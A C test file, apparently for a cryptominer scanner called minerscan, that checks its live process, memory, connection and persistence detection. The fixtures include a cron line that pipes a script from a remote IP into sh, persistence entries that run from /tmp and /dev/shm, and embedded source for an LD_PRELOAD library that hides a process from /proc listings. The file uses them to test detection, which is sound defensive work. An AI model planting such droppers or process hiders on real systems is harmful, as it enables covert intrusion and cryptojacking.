    cr_assert_str_eq(str(p, "exe"), S.path);
    cr_assert(json_is_true(json_object_get(p, "deleted")));
    cr_assert(json_is_false(json_object_get(p, "hidden")));
    cr_assert_eq(json_integer_value(json_object_get(p, "uid")), (json_int_t)getuid());
    if (getuid() == 0)
        cr_assert_str_eq(str(p, "user"), "root");
    cr_assert_eq(json_integer_value(json_object_get(p, "ppid")), (json_int_t)getpid());
    cr_assert(json_is_string(json_object_get(p, "start_time")), "start_time is a timestamp");
    cr_assert(json_is_number(json_object_get(p, "cpu_s")));

    /* the command line, as given, and its IOCs */
    json_t *cmd = json_object_get(p, "cmdline");
    cr_assert_eq(json_array_size(cmd), 7);
    cr_assert_str_eq(json_string_value(json_array_get(cmd, 0)), S.path);
    cr_assert_str_eq(json_string_value(json_array_get(cmd, 2)), S.pool);
    cr_assert_str_eq(json_string_value(json_array_get(cmd, 4)), S.wallet);
    json_t *iocs = json_object_get(p, "iocs");
    cr_assert(str_in(json_object_get(iocs, "pools"), S.pool), "the pool is an IOC:\n%s", res.out);
    json_t *w = json_array_get(json_object_get(iocs, "wallets"), 0);
    cr_assert_not_null(w, "the wallet is an IOC");
    cr_assert_str_eq(str(w, "coin"), "xmr");
    cr_assert_str_eq(str(w, "address"), S.wallet);
    cr_assert_eq(json_integer_value(json_object_get(json_object_get(iocs, "config"), "donate_level")), 1);

    /* the rules of its parts, and the parts' own records */
    cr_assert(t_has_rule(p, "xmrig_strings"), "the executable's rule is on the process record");
    cr_assert(t_has_rule(p, "miner_cmdline"), "the command line's rule is on the process record");
    char part[96];
    snprintf(part, sizeof(part), "/proc/%d!exe", (int)S.pid);
    json_t *exe = t_find_record(recs, part);
    cr_assert_not_null(exe, "no record for %s", part);
    cr_assert(t_has_rule(exe, "xmrig_strings"));
    cr_assert(json_is_true(json_object_get(exe, "is_member")));
    cr_assert(json_is_string(json_object_get(exe, "sha256")));
    cr_assert_str_eq(str(p, "sha256"), str(exe, "sha256"), "the process carries its program's digest");
    snprintf(part, sizeof(part), "/proc/%d!cmdline", (int)S.pid);
    cr_assert_not_null(t_find_record(recs, part), "no record for %s", part);
    /* the preloaded library is read from the file the process maps */
    char libpart[4200];
    snprintf(libpart, sizeof(libpart), "/proc/%d!lib@%s", (int)S.pid, S.lib);
    json_t *lib = t_find_record(recs, libpart);
    cr_assert_not_null(lib, "no record for %s:\n%s", libpart, res.out);
    cr_assert(t_has_rule(lib, "xmrig_gpu_plugin"));
    cr_assert(t_has_rule(p, "xmrig_gpu_plugin"), "the library's rule is on the process record");
    cr_assert(has_evidence(p, "ld_preload_env"));
    cr_assert_geq(json_integer_value(json_object_get(json_object_get(p, "memory"), "libraries")), 2,
                  "libc and the plugin at least");

    /* evidence: deleted, and in /tmp when the test directory is there */
    cr_assert(has_evidence(p, "exe_deleted"));
    if (!strncmp(S.path, "/tmp/", 5))
        cr_assert(has_evidence(p, "exe_in_tmp"));

    /* the connection, tied to the stand-in through its socket's inode */
    char remote[64];
    snprintf(remote, sizeof(remote), "127.0.0.1:%u", S.port);
    size_t i;
    json_t *c, *conn = NULL;
    json_array_foreach(json_object_get(p, "connections"), i, c) {
        if (str(c, "remote") && !strcmp(str(c, "remote"), remote))
            conn = c;
    }
    cr_assert_not_null(conn, "no connection to %s in:\n%s", remote, json_dumps(p, 0));
    cr_assert_str_eq(str(conn, "proto"), "tcp");
    cr_assert_str_eq(str(conn, "state"), "established");
    if (S.pool_port) {
        cr_assert_str_eq(str(conn, "match"), "pool_port_connection",
                         "the port its command line names (%u)", S.port);
        cr_assert(has_evidence(p, "pool_port_connection"));
    } else {
        cr_log_info("NOT CHECKED: no pool port was free on 127.0.0.1: the port match is not checked");
    }

    /* the memory was read: its stack holds the command line; the fake
     * zip is a note, not an error that would make the run exit 2 */
    json_t *mem = json_object_get(p, "memory");
    cr_assert_gt(json_integer_value(json_object_get(mem, "regions")), 0);
    cr_assert_gt(json_integer_value(json_object_get(mem, "bytes")), 0);
    const char *note = str(mem, "note");
    cr_assert(note && strstr(note, "not fully unpacked or scanned"), "memory note: %s", note ? note : "(null)");
    char mprefix[64];
    snprintf(mprefix, sizeof(mprefix), "/proc/%d!mem@", (int)S.pid);
    json_array_foreach(recs, i, c) {
        const char *pp = str(c, "path");
        if (!pp || strncmp(pp, mprefix, strlen(mprefix)))
            continue;
        cr_assert(json_is_false(json_object_get(c, "incomplete")), "%s", json_dumps(c, 0));
        cr_assert_str_neq(str(c, "verdict"), "error", "%s", json_dumps(c, 0));
    }

    /* the stand-in's second thread is not a hidden process */
    cr_assert_null(find_typed(recs, "process", NULL, S.tid), "thread %d reported as a process", S.tid);
    json_t *host = NULL;
    json_array_foreach(recs, i, c) {
        if (str(c, "type") && !strcmp(str(c, "type"), "host"))
            host = c;
    }
    cr_assert_not_null(host, "a host record ends the records");
    cr_assert_gt(json_integer_value(json_object_get(host, "processes")), 1);
    cr_assert_not_null(t_summary(recs));
    json_decref(recs);
    t_result_free(&res);
}

/* The run's memory budget (1 GiB) is for ordinary processes: ten ordinary
 * ones (python3 with 120 MiB of untouched mappings each, started first, so
 * scanned first) spend it, and the stand-in, which has evidence, still has
 * its memory read. A busy host's memory must not hide the miner's. */
Test(live, memory_budget_spent_by_others_still_reads_the_miner, .fini = live_fini, .timeout = 400) {
    if (!t_have_program("python3"))
        cr_skip_test("python3 is not installed: no ordinary processes to spend the budget");
    enum { HOGS = 10 };
    pid_t hog[HOGS];
    int ready[2];
    cr_assert_eq(pipe2(ready, O_CLOEXEC), 0);
    for (int i = 0; i < HOGS; i++) {
        hog[i] = fork();
        cr_assert_geq(hog[i], 0);
        if (hog[i] == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            dup2(ready[1], 3);
            char *const argv[] = {"python3", "-c",
                                  "import mmap, os, time\n"
                                  "m = [mmap.mmap(-1, 30 << 20) for i in range(4)]\n"
                                  "os.write(3, b'.'); os.close(3)\n"
                                  "time.sleep(600)\n", NULL};
            char *const envp[] = {"PATH=/usr/bin:/bin", NULL};
            execve("/usr/bin/python3", argv, envp);
            _exit(127);
        }
    }
    close(ready[1]);
    for (int i = 0; i < HOGS; i++) {
        char c;
        struct pollfd pf = {.fd = ready[0], .events = POLLIN};
        cr_assert_eq(poll(&pf, 1, 30000), 1, "hog %d did not start", i);
        cr_assert_eq(read(ready[0], &c, 1), 1);
    }
    close(ready[0]);
    standin_start("work");
    make_root();
    t_result res;
    const char *extra[] = {"--all"};
    json_t *recs = live_run(&res, extra, 1, R);
    for (int i = 0; i < HOGS; i++) {
        kill(hog[i], SIGKILL);
        waitpid(hog[i], NULL, 0);
    }
    json_t *p = find_typed(recs, "process", NULL, S.pid);
    cr_assert_not_null(p, "no record of the stand-in");
    json_t *mem = json_object_get(p, "memory");
    char *mem_text = json_dumps(mem, 0);
    cr_log_info("stand-in pid %d memory %s", (int)S.pid, mem_text);
    free(mem_text);
    cr_assert_gt(json_integer_value(json_object_get(mem, "regions")), 0, "%s", json_dumps(mem, 0));
    cr_assert_gt(json_integer_value(json_object_get(mem, "bytes")), 0);
    const char *mnote = str(mem, "note");
    cr_assert(!mnote || !strstr(mnote, "run limit of"), "the stand-in's memory met the run's limit: %s", mnote);
    /* and the budget really was spent: some ordinary process was left unread */
    bool capped = false;
    size_t i;
    json_t *r;
    json_array_foreach(recs, i, r) {
        const char *note = str(json_object_get(r, "memory"), "note");
        capped |= note && strstr(note, "run limit of") != NULL;
    }
    cr_assert(capped, "no process met the run's memory limit: the test proved nothing");
    json_decref(recs);
    t_result_free(&res);
}

Test(live, connection_to_pool_host_from_etc_hosts, .fini = live_fini, .timeout = 300) {
    standin_start(".cache");
    make_root();
    /* the machine says the pool host is on 127.0.0.1 */
    free(t_write_str(R, "etc/hosts", "127.0.0.1 localhost\n127.0.0.1 pool.supportxmr.com\n"));
    t_result res;
    json_t *recs = live_run(&res, NULL, 0, R);
    json_t *p = find_typed(recs, "process", NULL, S.pid);
    cr_assert_not_null(p, "no process record for the stand-in:\n%s", res.out);
    cr_assert(has_evidence(p, "pool_host_connection"), "the connection goes to what /etc/hosts calls a pool:\n%s",
              json_dumps(p, 0));
    cr_assert(has_evidence(p, "exe_hidden_dir"), "it runs from .cache");
    json_decref(recs);
    t_result_free(&res);
}

Test(live, text_and_sarif, .fini = live_fini, .timeout = 400) {
    standin_start("w");
    make_root();
    t_result res;
    const char *argv[] = {t_minerscan_path(), "--live", "--live-root", R, NULL};
    cr_assert_eq(t_run(argv, NULL, 240, &res), 0);
    char head[96], want[160];
    snprintf(head, sizeof(head), "MALICIOUS /proc/%d [elf]", (int)S.pid);
    cr_assert(strstr(res.out, head), "no header line '%s' in:\n%s", head, res.out);
    snprintf(want, sizeof(want), "    process: pid %d ppid %d", (int)S.pid, (int)getpid());
    cr_assert(strstr(res.out, want), "no line '%s'", want);
    snprintf(want, sizeof(want), "    exe: %s (deleted)\n", S.path);
    cr_assert(strstr(res.out, want), "no line '%s'", want);
    snprintf(want, sizeof(want), "-> 127.0.0.1:%u established", S.port);
    cr_assert(strstr(res.out, want), "no connection line with '%s'", want);
    cr_assert(strstr(res.out, "    evidence: exe_deleted (low): "));
    t_result_free(&res);

    char *sarif = t_path(S.dir, "live.sarif");
    const char *argv2[] = {t_minerscan_path(), "--live", "--live-root", R, "-f", "sarif", "-o", sarif, NULL};
    cr_assert_eq(t_run(argv2, NULL, 240, &res), 0);
    cr_assert_eq(res.status, 1, "%s", res.err);
    json_error_t e;
    json_t *doc = json_load_file(sarif, 0, &e);
    cr_assert_not_null(doc, "not JSON: %s", e.text);
    json_t *run = json_array_get(json_object_get(doc, "runs"), 0);
    size_t i;
    json_t *r;
    bool found = false;
    json_array_foreach(json_object_get(run, "results"), i, r) {
        json_t *props = json_object_get(r, "properties");
        if (json_integer_value(json_object_get(props, "pid")) == S.pid && str(r, "ruleId") &&
            !strcmp(str(r, "ruleId"), "exe_deleted")) {
            found = true;
            cr_assert_str_eq(str(props, "recordType"), "process");
        }
    }
    cr_assert(found, "no SARIF result exe_deleted for pid %d", (int)S.pid);
    json_decref(doc);
    if (t_have_sarif_validator()) {
        char *report = NULL;
        int errors = t_sarif_validate(sarif, &report);
        cr_assert_eq(errors, 0, "the validator found errors:\n%s", report ? report : "");
        free(report);
    } else {
        cr_log_info("NOT CHECKED: sarif-multitool is not installed: the --live SARIF is not validated");
    }
    free(sarif);
    t_result_free(&res);
}

/* A persistence tree in the temporary root: what must be flagged, what
 * must not, and a link that points out of the root. */
Test(live, persistence_in_root, .fini = live_fini, .timeout = 300) {
    make_root();
    free(t_write_str(R, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"));
    char *fetch = t_write_str(R, "etc/cron.d/fetch",
                              "*/10 * * * * root curl -fsSL http://198.51.100.7/a.sh | sh\n");
    free(t_write_str(R, "etc/cron.d/e2scrub_all",
                     "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
                     "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"));
    free(t_write_str(R, "var/spool/cron/crontabs/root", "@reboot /tmp/.x/kworker >/dev/null 2>&1\n"));
    free(t_write_str(R, "etc/systemd/system/helper.service",
                     "[Unit]\nDescription=helper\n[Service]\nExecStart=/dev/shm/.s/helper\n"));
    free(t_write_str(R, "etc/systemd/system/ok.service", "[Service]\nExecStart=/usr/sbin/cron -f\n"));
    free(t_write_str(R, "root/.ssh/authorized_keys",
                     "command=\"/var/tmp/.k/run\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE test\n"));
    free(t_write_str(R, "home/alice/.bashrc", "alias ll='ls -l'\ncd /tmp && ./.x\n"));
    free(t_write_str(R, "etc/profile.d/ok.sh", "# curl http://198.51.100.7/i | sh\nexport PATH=$PATH:/opt/x\n"));
    free(t_write_str(R, "etc/ld.so.preload", "/usr/local/lib/libhide.so\n/usr/lib/libgone.so\n"));
    free(t_write_str(R, "usr/local/lib/libhide.so", "not really a library\n"));
    /* a unit linked to a file outside the root: must resolve inside it */
    char *outside = t_mkdtemp();
    char *evil = t_write_str(outside, "evil.service", "[Service]\nExecStart=/tmp/xmrig -o stratum+tcp://x.example:3333\n");
    char *link = t_path(R, "etc/systemd/system/escape.service");
    cr_assert_eq(symlink(evil, link), 0);
    /* chattr +i on the cron file, where the file system has the flag */
    bool immutable = false;
    int fd = open(fetch, O_RDONLY);
    int fl = 0;
    if (fd >= 0 && ioctl(fd, FS_IOC_GETFLAGS, &fl) == 0) {
        fl |= FS_IMMUTABLE_FL;
        immutable = ioctl(fd, FS_IOC_SETFLAGS, &fl) == 0;
    }
    if (fd >= 0)
        close(fd);
    if (!immutable)
        cr_log_info("NOT CHECKED: chattr +i is not possible here: the immutable flag is not checked");

    t_result res;
    json_t *recs = live_run(&res, NULL, 0, R);
    char p[4096];
#define REC(rel) (snprintf(p, sizeof(p), "%s/%s", R, rel), find_typed(recs, "persistence", p, -1))
    json_t *r = REC("etc/cron.d/fetch");
    cr_assert_not_null(r, "the cron fetch is not reported:\n%s", res.out);
    cr_assert_str_eq(str(r, "location"), "cron");
    cr_assert(has_evidence(r, "download_pipe"));
    cr_assert(t_has_rule(r, "dropper_cron_fetch"), "scanned with the rules as a file");
    cr_assert_str_neq(str(r, "verdict"), "clean");
    if (immutable) {
        cr_assert(json_is_true(json_object_get(r, "immutable")));
        cr_assert(has_evidence(r, "immutable"));
    }
    r = REC("var/spool/cron/crontabs/root");
    cr_assert_not_null(r);
    cr_assert(has_evidence(r, "runs_from_tmp"));
    cr_assert_str_eq(str(r, "verdict"), "suspicious");
    r = REC("etc/systemd/system/helper.service");
    cr_assert_not_null(r);
    cr_assert_str_eq(str(r, "location"), "systemd");
    cr_assert(has_evidence(r, "runs_from_tmp"));
    r = REC("root/.ssh/authorized_keys");
    cr_assert_not_null(r);
    cr_assert_str_eq(str(r, "location"), "authorized_keys");
    cr_assert(has_evidence(r, "runs_from_tmp"));
    r = REC("home/alice/.bashrc");
    cr_assert_not_null(r, "home/alice is found without a passwd line");
    cr_assert(has_evidence(r, "runs_from_tmp"));
    r = REC("etc/ld.so.preload");
    cr_assert_not_null(r);
    cr_assert(has_evidence(r, "ld_so_preload"));
    cr_assert(has_evidence(r, "preload_missing"), "libgone.so does not exist");
    cr_assert_str_eq(str(r, "verdict"), "suspicious");
    r = REC("usr/local/lib/libhide.so");
    cr_assert_not_null(r, "the preloaded library is scanned");
    cr_assert_str_eq(str(r, "location"), "ld.so.preload library");
    cr_assert(has_evidence(r, "preloaded_library"));
    cr_assert(!has_evidence(r, "preload_missing"), "a library is not read as a preload list");
    /* clean files are not reported; the link out of the root read nothing */
    cr_assert_null(REC("etc/cron.d/e2scrub_all"));
    cr_assert_null(REC("etc/systemd/system/ok.service"));
    cr_assert_null(REC("etc/profile.d/ok.sh"));
    cr_assert_null(REC("etc/systemd/system/escape.service"), "a link out of the root was followed");
    cr_assert_null(strstr(res.out, outside), "a file outside the root was read");
#undef REC
    json_decref(recs);
    t_result_free(&res);
    t_rmtree(outside);
    free(outside);
    free(evil);
    free(link);
    free(fetch);
}

/* A library that hides one pid from readdir() of /proc, as
 * libprocesshider does, preloaded into minerscan. */
static const char hider_src[] =
    "#define _GNU_SOURCE\n#include <dirent.h>\n#include <dlfcn.h>\n#include <stdio.h>\n"
    "#include <stdlib.h>\n#include <string.h>\n#include <unistd.h>\n"
    "static int hide(DIR *d, const char *name) {\n"
    "  const char *pid = getenv(\"MS_TEST_HIDE_PID\"); char l[64], t[256];\n"
    "  if (!pid || strcmp(name, pid)) return 0;\n"
    "  snprintf(l, sizeof(l), \"/proc/self/fd/%d\", dirfd(d));\n"
    "  ssize_t n = readlink(l, t, sizeof(t) - 1); if (n < 0) return 0; t[n] = 0;\n"
    "  return !strcmp(t, \"/proc\"); }\n"
    "struct dirent *readdir(DIR *d) {\n"
    "  static struct dirent *(*real)(DIR *); struct dirent *e;\n"
    "  if (!real) real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, \"readdir\");\n"
    "  while ((e = real(d)) && hide(d, e->d_name)) {}\n  return e; }\n"
    "struct dirent64 *readdir64(DIR *d) {\n"
    "  static struct dirent64 *(*real)(DIR *); struct dirent64 *e;\n"
    "  if (!real) real = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, \"readdir64\");\n"
    "  while ((e = real(d)) && hide(d, e->d_name)) {}\n  return e; }\n";

Test(live, process_hidden_from_readdir, .fini = live_fini, .timeout = 300) {
    if (t_elf_is_static(t_minerscan_path()))
        cr_skip_test("minerscan is statically linked: no library can be preloaded into it");
    standin_start("h");
    make_root();
    char *so = t_path(S.dir, "libhide.so");
    cr_assert_eq(t_compile("cc", hider_src, so, "-shared -fPIC -ldl"), 0);
    char pid[16];
    snprintf(pid, sizeof(pid), "%d", (int)S.pid);
    setenv("MS_TEST_HIDE_PID", pid, 1);
    setenv("LD_PRELOAD", so, 1);
    /* ASan wants to be first in the library list; a preloaded hider is
     * the point here */
    const char *asan = getenv("ASAN_OPTIONS");
    char *opts = NULL;
    cr_assert_geq(asprintf(&opts, "%s%sverify_asan_link_order=0", asan ? asan : "", asan ? ":" : ""), 0);
    setenv("ASAN_OPTIONS", opts, 1);
    t_result res;
    json_t *recs = live_run(&res, NULL, 0, R);
    unsetenv("LD_PRELOAD");
    json_t *p = find_typed(recs, "process", NULL, S.pid);
    cr_assert_not_null(p, "the hidden stand-in was not found:\n%s\n%s", res.out, res.err);
    cr_assert(json_is_true(json_object_get(p, "hidden")));
    cr_assert(has_evidence(p, "hidden_from_readdir"));
    cr_assert_str_eq(str(p, "verdict"), "malicious");
    json_t *host = NULL;
    size_t i;
    json_t *c;
    json_array_foreach(recs, i, c) {
        if (str(c, "type") && !strcmp(str(c, "type"), "host"))
            host = c;
    }
    cr_assert_not_null(host);
    cr_assert_geq(json_integer_value(json_object_get(host, "hidden_processes")), 1);
    cr_assert(has_evidence(host, "hidden_processes"));
    json_decref(recs);
    t_result_free(&res);
    free(opts);
    free(so);
}

Test(live, normal_user_skips_what_it_cannot_read, .fini = live_fini, .timeout = 300) {
    if (getuid() != 0)
        cr_skip_test("needs root to run minerscan as user 65534");
    if (!t_have_program("setpriv"))
        cr_skip_test("setpriv (util-linux) is not installed");
    standin_start("u");
    make_root();
    const char *argv[] = {"setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
                          t_minerscan_path(), "--live", "--live-root", R, "-f", "jsonl", NULL};
    t_result res;
    cr_assert_eq(t_run(argv, NULL, 240, &res), 0);
    json_t *recs = t_jsonl(res.out);
    cr_assert_not_null(recs, "not JSON Lines:\n%s\n%s", res.out, res.err);
    cr_assert_neq(res.status, 2, "what user 65534 may not read must not fail the run:\n%s", res.err);
    /* the stand-in is root's: its executable and memory are not readable,
     * its command line is, and that is enough to find it */
    json_t *p = find_typed(recs, "process", NULL, S.pid);
    cr_assert_not_null(p, "no record for root's stand-in:\n%s", res.out);
    cr_assert(t_has_rule(p, "miner_cmdline"), "the command line is still read");
    cr_assert_str_eq(str(p, "verdict"), "malicious");
    cr_assert(json_is_null(json_object_get(p, "sha256")), "the executable was not read");
    cr_assert_eq(json_integer_value(json_object_get(json_object_get(p, "memory"), "bytes")), 0);
    /* root's other processes: skipped with a reason, never errors */
    size_t i, skipped = 0;
    json_t *r;
    json_array_foreach(recs, i, r) {
        const char *t = str(r, "type");
        if (!t || (strcmp(t, "process") && strcmp(t, "object")))
            continue;
        cr_assert_str_neq(str(r, "verdict"), "error", "an error record: %s", json_dumps(r, 0));
        if (!strcmp(t, "process") && !strcmp(str(r, "verdict"), "skipped")) {
            skipped++;
            cr_assert(str(r, "reason") && strstr(str(r, "reason"), "permission denied"), "%s", json_dumps(r, 0));
            cr_assert(json_is_false(json_object_get(r, "incomplete")));
        }
    }
    cr_assert_gt(skipped, 0, "root's processes are reported as skipped");
    json_t *sum = t_summary(recs);
    cr_assert_eq(json_integer_value(json_object_get(sum, "errors")), 0);
    json_decref(recs);
    t_result_free(&res);
}

Test(live, usage_errors, .timeout = 60) {
    t_result res;
    cr_assert_eq(t_minerscan(&res, NULL, "--live", "/tmp", NULL), 0);
    cr_assert_eq(res.status, 2);
    cr_assert(strstr(res.err, "--live takes no PATH"), "%s", res.err);
    t_result_free(&res);
    cr_assert_eq(t_minerscan(&res, NULL, "--live-root", "/", ".", NULL), 0);
    cr_assert_eq(res.status, 2);
    cr_assert(strstr(res.err, "--live-root needs --live"), "%s", res.err);
    t_result_free(&res);
    cr_assert_eq(t_minerscan(&res, NULL, "--live", "--live-root", "/nonexistent/root", NULL), 0);
    cr_assert_eq(res.status, 2);
    cr_assert(strstr(res.err, "No such file"), "%s", res.err);
    t_result_free(&res);
}
